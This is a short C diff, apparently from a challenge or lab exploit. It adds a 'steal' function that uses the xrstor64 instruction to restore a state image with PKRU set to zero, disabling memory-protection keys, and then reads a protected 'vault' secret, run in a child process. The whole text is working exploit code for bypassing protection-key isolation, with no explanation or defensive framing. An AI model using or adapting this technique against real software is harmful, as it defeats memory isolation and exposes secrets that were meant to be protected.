@@ -12,6 +12,12 @@ __attribute__((noinline)) static void load_state(void *buf, uint64_t mask)
     __asm__ volatile("xrstor64 (%0)" ::"r"(buf), "a"((uint32_t)mask), "d"((uint32_t)(mask >> 32)) : "memory");
 }
 
+static const volatile uint8_t *steal(void *cell)
+{
+    load_state(area, 1ull << 9);
+    return ((struct vault_cell *)cell)->secret;
+}
+
 int main(void)
 {
     vault_open();
@@ -23,6 +29,5 @@ int main(void)
     uint64_t bv = 1ull << 9;
     memcpy(area + 512, &bv, 8);                 /* XSTATE_BV: PKRU present */
     memset(area + ebx, 0, 4);                   /* PKRU = 0 */
-    load_state(area, bv);
-    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
+    steal_in_child(steal, vault_address(VAULT_DATA));
 }
